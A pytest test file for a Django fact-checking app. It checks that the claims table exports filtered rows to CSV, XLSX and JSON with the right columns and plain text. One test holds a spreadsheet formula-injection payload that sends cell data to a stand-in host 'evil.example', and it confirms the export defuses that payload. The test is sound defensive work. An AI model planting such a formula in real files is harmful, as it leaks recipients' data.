"""The claims table's exports: the filtered rows, as plain text, in useful columns."""

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tests.conftest import (
    BODY,
    cite,
    current_version,
    make_approved,
    make_article,
    rating,
)
from verifier import workflow
from verifier.models import Claim, Priority

pytestmark = pytest.mark.django_db

COLUMNS = [
    "#",
    "Link",
    "Article",
    "Claim",
    "Claimant",
    "State",
    "Verdict",
    "Rationale",
    "Assignee",
    "Due",
    "Priority",
    "Sources",
    "Evidence URLs",
    "Updated",
]
KEYS = [
    "id",
    "url",
    "article",
    "claim",
    "claimant",
    "state",
    "verdict",
    "rationale",
    "assignee",
    "due",
    "priority",
    "sources",
    "evidence_urls",
    "updated_at",
]
# The JSON export's machine names, by the spreadsheet header they stand for.
KEY_OF = dict(zip(COLUMNS, KEYS, strict=True))


def download(client, user, fmt, **filters) -> bytes:
    client.force_login(user)
    response = client.get("/claims/", {"_export": fmt, **filters})
    assert response.status_code == 200
    assert response.streaming
    return response.getvalue()


def export(client, user, fmt, **filters):
    """The export's rows as dicts by spreadsheet header (None for an empty cell)."""
    content = download(client, user, fmt, **filters)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode())))
        return [
            dict(zip(rows[0], [v or None for v in row], strict=True))
            for row in rows[1:]
        ]
    if fmt == "json":
        return [
            {header: row[KEY_OF[header]] for header in COLUMNS}
            for row in json.loads(content)
        ]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def headers(client, user, fmt):
    content = download(client, user, fmt)
    if fmt == "csv":
        return next(csv.reader(io.StringIO(content.decode())))
    if fmt == "json":
        return list(json.loads(content)[0])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for cell in sheet[1]]


def many_claims(user, n, title="Big article"):
    body = "\n\n".join(
        f"Statement {i:03} says prices rose 3.2% in March." for i in range(n)
    )
    return make_article(user, body=body, title=title)


@pytest.fixture
def worked(checker, editor):
    """An article with one approved claim citing two sources, and two open claims."""
    article = make_article(
        checker,
        spans=[workflow.Span(0, BODY.index("\n"), claimant="Labor Department")],
        title="Jobs <b>report</b>",
    )
    claim = article.claims.get()
    workflow.start(claim, user=checker, version=current_version(claim))
    cite(claim, checker)
    second = workflow.create_source(
        user=checker, title="Second source", url="https://example.org/second.csv"
    )
    cite(claim, checker, second)
    workflow.save_verdict(
        claim,
        user=checker,
        rating=rating("False"),
        rationale="No.",
        version=current_version(claim),
    )
    workflow.submit(claim, user=checker, version=current_version(claim))
    workflow.approve(claim, user=editor, version=current_version(claim))
    make_article(checker, body="Other claim one.\n\nOther claim two.", title="Other")
    return article


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_has_the_columns_a_spreadsheet_user_wants(client, checker, worked, fmt):
    assert headers(client, checker, fmt) == COLUMNS


def test_json_export_keys_are_stable_machine_names(client, checker, worked):
    assert headers(client, checker, "json") == KEYS


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_is_plain_text(client, checker, worked, fmt):
    rows = export(client, checker, fmt)
    (row,) = [r for r in rows if r["State"] in ("Approved", "approved")]
    assert row["Verdict"] == "False"
    assert (
        row["Article"] == "Jobs <b>report</b>"
    )  # the title as typed, not markup of ours
    assert not any(
        "<span" in str(v) or "<a " in str(v) or "verdict" in str(v)
        for r in rows
        for v in r.values()
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_row_carries_claimant_assignee_sources_and_update_time(
    client, checker, worked, fmt
):
    claim = Claim.objects.get(state=Claim.State.APPROVED)
    rows = export(client, checker, fmt)
    (row,) = [r for r in rows if r["State"] in ("Approved", "approved")]
    assert row["Claim"] == claim.text
    assert row["Link"] == f"http://testserver/claims/{claim.pk}/"
    assert row["Claimant"] == "Labor Department"
    assert row["Rationale"] == "No."
    assert row["Assignee"] == "alice"
    assert int(row["Sources"]) == 2
    local = timezone.localtime(claim.updated_at).replace(microsecond=0)
    if fmt == "xlsx":  # a real date cell, in the local time of TIME_ZONE
        assert row["Updated"] == local.replace(tzinfo=None)
    else:  # ISO 8601 with the offset
        assert datetime.datetime.fromisoformat(row["Updated"]) == local
        assert row["Updated"].endswith(local.strftime("%z")[:3] + ":00")


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_row_carries_the_deadline_and_priority_the_list_shows(
    client, checker, editor, worked, fmt
):
    # A desk that filters "overdue" and exports needs the deadline in the file.
    claim = Claim.objects.get(text="Other claim one.")
    due = timezone.now().replace(microsecond=0) + datetime.timedelta(days=2)
    workflow.schedule_claim(
        claim,
        user=editor,
        due=due,
        priority=Priority.URGENT,
        version=current_version(claim),
    )
    rows = export(client, checker, fmt)
    (row,) = [r for r in rows if r["Claim"] == claim.text]
    local = timezone.localtime(due)
    if fmt == "xlsx":  # a real date cell, as "Updated"
        assert row["Due"] == local.replace(tzinfo=None)
    else:  # ISO 8601 with the offset
        assert datetime.datetime.fromisoformat(row["Due"]) == local
    assert row["Priority"] == ("urgent" if fmt == "json" else "Urgent")
    unscheduled = [r for r in rows if r["Claim"] != claim.text]
    assert [r["Due"] for r in unscheduled] == [None, None]
    assert {r["Priority"] for r in unscheduled} == {
        "normal" if fmt == "json" else "Normal"
    }


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_lists_the_evidence_urls_of_a_claim(client, checker, worked, fmt):
    rows = export(client, checker, fmt)
    (row,) = [r for r in rows if r["Verdict"] == "False"]
    urls = row["Evidence URLs"]
    if fmt != "json":
        urls = urls.split("\n")
    assert urls == ["https://example.org/report.pdf", "https://example.org/second.csv"]


def test_export_holds_the_whole_claim_text(client, checker):
    text = "A claim that is longer than the table shows on the page, " * 3
    make_article(checker, body=text.strip())
    (row,) = export(client, checker, "csv")
    assert row["Claim"] == text.strip()


def test_export_holds_every_row_beyond_the_first_page(client, checker):
    many_claims(checker, 60)  # the page shows 50
    rows = export(client, checker, "csv")
    assert len(rows) == 60
    assert {r["Claim"][:13] for r in rows} == {f"Statement {i:03}" for i in range(60)}


def test_export_from_a_later_page_still_holds_every_row(client, checker):
    many_claims(checker, 60)
    assert len(export(client, checker, "csv", page=2)) == 60


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_holds_exactly_the_filtered_rows(client, checker, editor, fmt):
    article = many_claims(checker, 55)
    other = many_claims(checker, 3, title="Other article")
    claims = list(article.claims.order_by("start"))
    for claim in claims[:52]:
        workflow.dismiss(
            claim, user=checker, reason="Duplicate.", version=current_version(claim)
        )
    rows = export(client, checker, fmt, state="dismissed", article=article.pk)
    assert sorted(int(r["#"]) for r in rows) == [c.pk for c in claims[:52]]
    assert not {r["Article"] for r in rows} - {article.title}
    assert other.title not in {r["Article"] for r in rows}


def test_export_follows_the_text_search(client, checker):
    many_claims(checker, 12)
    rows = export(client, checker, "csv", q="Statement 007")
    assert [r["Claim"][:13] for r in rows] == ["Statement 007"]


def test_export_follows_the_sort_order(client, checker):
    many_claims(checker, 5)
    rows = export(client, checker, "csv", sort="-text")
    assert [r["Claim"][:13] for r in rows] == [
        f"Statement {i:03}" for i in (4, 3, 2, 1, 0)
    ]


def test_invalid_filter_exports_no_rows(client, checker):
    many_claims(checker, 3)
    assert export(client, checker, "csv", state="no-such-state") == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_spreadsheet_cells_cannot_start_a_formula(client, checker, fmt):
    make_article(checker, body='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    (row,) = export(client, checker, fmt)
    assert row["Claim"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_json_export_keeps_text_that_looks_like_a_formula(client, checker):
    make_article(checker, body="=1+1 is what the minister wrote.")
    (row,) = export(client, checker, "json")
    assert row["Claim"] == "=1+1 is what the minister wrote."


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_spreadsheet_cells_that_start_with_a_sign_are_defused(client, checker, fmt):
    make_article(checker, body="+44 20 7946 0000 is the number, said @mayor.")
    (row,) = export(client, checker, fmt)
    assert row["Claim"].startswith("'+44")


def test_xlsx_export_replaces_control_characters_it_cannot_hold(client, checker):
    make_article(checker, body="Prices rose 3.2% in March.")
    Claim.objects.update(rationale="Bell\x07 and escape\x1b in a note.")
    (row,) = export(client, checker, "xlsx")
    assert row["Rationale"] == "Bell\ufffd and escape\ufffd in a note."


def test_csv_export_keeps_control_characters_as_typed(client, checker):
    make_article(checker, body="Prices rose 3.2% in March.")
    Claim.objects.update(rationale="Bell\x07.")
    (row,) = export(client, checker, "csv")
    assert row["Rationale"] == "Bell\x07."


@pytest.mark.parametrize("fmt", ["pdf", "xls", "", "CSV", "latex"])
def test_unknown_export_format_is_a_400_that_lists_the_formats(client, checker, fmt):
    make_article(checker)
    client.force_login(checker)
    response = client.get("/claims/", {"_export": fmt})
    assert response.status_code == 400
    assert "csv, xlsx, json" in response.content.decode()


def test_anonymous_cannot_export(client, worked):
    response = client.get("/claims/", {"_export": "csv"})
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_export_query_count_does_not_grow_with_rows(client, checker, editor):
    def queries(n):
        article = many_claims(checker, n, title=f"Article of {n}")
        for claim in article.claims.all()[:2]:
            make_approved(claim, checker, editor)
        client.force_login(checker)
        with CaptureQueriesContext(connection) as context:
            client.get("/claims/", {"_export": "csv", "article": article.pk})
        return len(context)

    assert queries(3) == queries(30)
